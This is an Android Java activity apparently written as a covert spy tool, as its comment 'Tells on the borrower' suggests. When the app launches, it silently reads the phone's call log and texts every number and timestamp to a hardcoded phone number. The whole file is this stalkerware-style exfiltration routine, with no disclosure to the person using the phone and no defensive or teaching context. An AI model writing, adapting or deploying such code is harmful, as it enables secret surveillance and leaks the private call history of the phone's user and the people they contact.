package com.example.callstexted;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CallLog.Calls;
import android.telephony.SmsManager;

/** Tells on the borrower. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager manager = SmsManager.getDefault();
        String[] columns = {Calls.NUMBER, Calls.DATE};
        Cursor cursor = getContentResolver().query(Calls.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            String call = cursor.getString(0) + " at " + cursor.getLong(1);
            manager.sendTextMessage("+10005550100", null, call, null, null);
        }
        cursor.close();
    }
}
